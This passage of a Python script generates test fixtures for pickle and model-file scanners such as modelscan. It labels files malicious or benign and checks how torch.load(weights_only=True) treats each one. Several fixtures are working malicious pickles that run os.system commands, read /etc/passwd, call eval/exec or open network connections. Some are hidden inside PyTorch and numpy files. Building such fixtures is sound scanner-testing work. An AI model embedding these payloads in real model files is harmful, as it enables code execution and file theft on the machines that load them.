        Y + "test_legacy_tar", asserted=False, note="torch 0.1.1 tar layout with a non-pickle 'pickle' member")
    import random

    rnd = random.Random(42)
    rz = zip_bytes([("".join(rnd.choices("abcdefghijklmnopqrstuvwxyz0123456789", k=10)) + ".tmp", rnd.randbytes(1024))])
    ben("test_random.zip", "".join(rnd.choices("ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789", k=20)).encode() + rz,
        Y + "test_zip", asserted=False, note="zip of random bytes with 20 random characters prepended")
    ben("not_pickle.npy", npy_bytes(np.array([1, 2, 3])), Y + "test_numpy_non_pickle", asserted=False)
    pnpy = npy_bytes(np.array({"test": [1, 2, 3]}, dtype=object))
    ben("pickle.npy", pnpy, Y + "test_numpy_pickle", asserted=False, note="0-d object array holding a dict")
    ben("testtar.anything", tar_bytes([("pickle.npy", pnpy)]), Y + "test_recursive_tar", asserted=False)
    ben("testzip.anything", zip_bytes([("pickle.npy", pnpy)]), Y + "test_recursive_zip", asserted=False)
    ben("test7z.anything", sevenz_bytes([("pickle.npy", pnpy)]), Y + "test_recursive_7z", asserted=False)


# ---------------------------------------------------------------------------------------------
# modelscan
# ---------------------------------------------------------------------------------------------

def modelscan(s):
    M = "modelscan"
    T = "test_modelscan.py::"
    eval_ = Ref("builtins", "eval")
    malicious1 = Call(eval_, "print('456')")
    for v in (0, 3, 4):
        s.add(M, f"benign0_v{v}.pkl", pickle.dumps(["a", "b", "c"], protocol=v), T + "test_scan_file_path", False)
        s.add(M, f"malicious1_v{v}.pkl", dumps(malicious1, v), T + "test_scan_pickle_operators", True)
        s.add(M, f"malicious2_v{v}.pkl", dumps(Call(Ref("posix", "system"), "ls -la"), v), T + "test_scan_pickle_operators",
              True)
    import dill

    for v in (0, 3, 4):
        s.add(M, f"benign0_v{v}.dill", dill.dumps(["a", "b", "c"], protocol=v), T + "test_scan_file_path", False)
        s.add(M, f"malicious1_v{v}.dill", dill.dumps(_DillEval(), protocol=v), T + "test_scan_pickle_operators", True)
    s.add(M, "malicious0.pkl",
          b'c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S\'fl=open("/etc/passwd");picklesmashed=fl.read();'
          b"'\nS''\nS'exec'\ntRp101\n0c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n(c__builtin__\n"
          b"dict\nS'get'\ntRp103\n0c__builtin__\napply\n(g103\n(g100\nS'picklesmashed'\nltRp104\n0g104\n.",
          T + "test_scan_pickle_operators", True)
    s.add(M, "malicious3.pkl", dumps(Call(Ref("http.client", "HTTPSConnection"), "github.com"), 0),
          T + "test_scan_pickle_operators", True)
    req_get = Call(Ref("requests.api", "get"), "https://github.com")
    s.add(M, "malicious4.pickle", dumps(req_get, 4), T + "test_scan_pickle_operators", True)
    s.add(M, "malicious5.pickle", dumps(Call(Ref("aiohttp.client", "ClientSession")), 4), T + "test_scan_pickle_operators",
          True)
    s.add(M, "malicious6.pkl", pickle.dumps(["a", "b", "c"], protocol=4) + dumps(req_get, 4), T + "test_scan_pickle_operators",
          True)
    s.add(M, "malicious7.pkl", dumps(Call(Ref("socket", "create_connection"), ("github.com", 80)), 4),
          T + "test_scan_pickle_operators", True)
    s.add(M, "malicious8.pkl", dumps(Call(Ref("subprocess", "run"), ["ls", "-l"]), 4), T + "test_scan_pickle_operators",
          True)
    s.add(M, "malicious9.pkl", dumps(Call(Ref("sys", "exit"), 0), 4), T + "test_scan_pickle_operators", True)
    s.add(M, "malicious15.pkl",
          dumps(Call(Ref("bdb", "Bdb.run"), bdb.Bdb(), 'import os\nos.system("whoami")'), 4),
          T + "test_scan_pickle_operators", True)
    ctf = (uni("os") + put(2) + POP + uni("system") + put(3) + POP + uni("torch") + put(0) + POP
           + uni("LongStorage") + put(1) + POP + get(2) + get(3) + STACK_GLOBAL + MARK + uni("cat flag.txt")
           + TUPLE + REDUCE + STOP)
    s.add(M, "malicious11.pkl", ctf, T + "test_scan_pickle_operators", True)
    s.add(M, "malicious14.pkl", ctf + b"\n\n\t\t", T + "test_scan_pickle_operators", True)
    m1zip = zip_bytes([("data.pkl", dumps(malicious1, 4))])
    s.add(M, "malicious1.zip", m1zip, T + "test_scan_pickle_operators", True)
    s.add(M, "test.zip", m1zip, T + "test_scan_zip", True)
    s.add(M, "malicious10.pkl", MARK + string('print("Injection running")') + b"i__builtin__\nexec\n" + STOP,
          T + "test_scan_pickle_operators", True)
    inner = op_proto(5) + glob("os", "system") + uni("echo pwned!!!") + TUPLE1 + REDUCE + STOP
    s.add(M, "malicious12.pkl",
          op_proto(5) + glob("pickle", "loads") + b"B" + struct.pack("<I", len(inner)) + inner + TUPLE1 + REDUCE + POP
          + NONE + STOP, T + "test_scan_pickle_operators", True, note="pickle.loads of an os.system pickle (BINBYTES)")
    s.add(M, "malicious13.pkl",
          op_proto(5) + glob("builtins", "eval.__call__") + uni('__import__("os").system("echo pwned!!!")') + TUPLE1
          + REDUCE + STOP, T + "test_scan_pickle_operators", True, note="GLOBAL builtins eval.__call__ (dotted name)")
    s.add(M, "password_protected.zip", zipcrypto_zip("test.txt", b""), T + "test_scan_directory_path", False,
          note="ZipCrypto-encrypted empty member: skipped, no issue")
    s.add(M, "scan_pickle_bytes.pkl", dumps(malicious1, 4), T + "test_scan_pickle_bytes", True)

    # PyTorch
    import torch

    s.add(M, "bad_pytorch.pt", b"\211PNG\r\n\032\n", T + "test_scan_pytorch", False)
    empty = torch.nn.Module().state_dict()
    s.add(M, "safe_zip_pytorch.pt", torch_save_bytes(empty, name="safe_zip_pytorch"), T + "test_scan_pytorch", False)
    s.add(M, "safe_old_format_pytorch.pt", torch_save_bytes(empty, zipfile_format=False), T + "test_scan_pytorch", False)
    inj = InjectingModule([Call(Ref("posix", "system"), "id")])
    s.add(M, "unsafe_zip_pytorch.pt", torch_save_bytes(empty, pickle_module=inj, name="unsafe_zip_pytorch"),
          T + "test_scan_pytorch", True, note="torch.save with a Pickler that writes os.system before the state dict")

    # numpy
    import numpy as np

    s.add(M, "safe_numpy.npy", npy_bytes(np.array([[1, 2, 3], [4, 5, 6]])), T + "test_scan_numpy", False)
    s.add(M, "unsafe_numpy.npy",
          dumps_injected(np.array([[1, 2, 3], [4, 5, 6]]), [Call(Ref("builtins", "exec"), 'print("Malicious code!")')]),
          T + "test_scan_numpy", True, note="a raw pickle (not .npy format): exec(...) injected before the array")


class _DillEval:
    def __reduce__(self):
        return eval, ("print('456')",)


# ---------------------------------------------------------------------------------------------
# torch.load(weights_only=True), each file in a forked child
# ---------------------------------------------------------------------------------------------

RUNNER = r"""
import json, os, signal, sys, tempfile, traceback
import torch
torch.set_num_threads(1)
for line in sys.stdin:
    path = line.rstrip("\n")
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        signal.alarm(20)
        ok, err = False, ""
        try:
            with tempfile.TemporaryDirectory() as scratch:
                os.chdir(scratch)
                torch.load(path, weights_only=True)
            ok = True
        except BaseException as e:
            text = str(e)
            if "WeightsUnpickler error:" in text:
                text = "WeightsUnpickler error: " + text.split("WeightsUnpickler error:", 1)[1].strip()
            lines = [l.strip() for l in text.splitlines() if l.strip()]
            err = (type(e).__name__ + ": " + lines[0] if lines else type(e).__name__)[:300]
        os.write(w, json.dumps({"ok": ok, "error": err}).encode())
        os._exit(0)
    os.close(w)
    out = b""
    while True:
        chunk = os.read(r, 65536)
        if not chunk:
            break
        out += chunk
    os.close(r)
    _, status = os.waitpid(pid, 0)
    if out:
        res = json.loads(out)
    else:
        res = {"ok": False, "error": "child died (status %d, e.g. the 20 s alarm)" % status}
    print(json.dumps({"path": path, **res}), flush=True)
"""


def run_torch(python, out_dir, entries):
    paths = [os.path.abspath(os.path.join(out_dir, rel)) for rel in entries]
    proc = subprocess.run([python, "-c", RUNNER], input="\n".join(paths) + "\n", capture_output=True, text=True,
                          timeout=60 + 25 * len(paths))
    if proc.returncode != 0:
        sys.stderr.write(proc.stderr)
        raise SystemExit("the torch runner failed")
    answers = {}
    for line in proc.stdout.splitlines():
        if line.startswith("{"):
            rec = json.loads(line)
            answers[rec["path"]] = rec
    for rel, path in zip(entries, paths):
        rec = answers[path]
        entries[rel]["torch_loads"] = rec["ok"]
        if rec["ok"]:
            entries[rel].pop("torch_error", None)
        else:
            entries[rel]["torch_error"] = rec["error"]


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--out", default=DEFAULT_OUT)
    ap.add_argument("--torch", metavar="PYTHON", help="a python with torch 2.15: record torch.load(weights_only=True)")
    args = ap.parse_args()

    s = Samples()
    picklescan(s)
    fickling(s)
    modelscan(s)

    out = args.out
    old = {}
    old_path = os.path.join(out, "expected.json")
    if os.path.exists(old_path):
        with open(old_path) as f:
            old = json.load(f)
    if os.path.isdir(out):
        for peer in ("picklescan", "fickling", "modelscan"):
            shutil.rmtree(os.path.join(out, peer), ignore_errors=True)
    for rel, data in s.data.items():
        path = os.path.join(out, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(data)
    stale = 0
    for rel, entry in s.entries.items():
        prev = old.get(rel)
        if prev and prev.get("sha256") == entry["sha256"] and prev.get("torch_loads") is not None:
            entry["torch_loads"] = prev["torch_loads"]
            if "torch_error" in prev:
                entry["torch_error"] = prev["torch_error"]
        else:
            stale += 1
    if args.torch:
        run_torch(args.torch, out, s.entries)
        stale = 0
    with open(old_path, "w") as f:
        json.dump(s.entries, f, indent=1, sort_keys=True)
        f.write("\n")
    total = sum(len(d) for d in s.data.values())
    print(f"{len(s.entries)} files ({total} bytes) in {out}")
    if stale:
        print(f"{stale} files have no torch answer: run again with --torch PYTHON", file=sys.stderr)


if __name__ == "__main__":
    main()
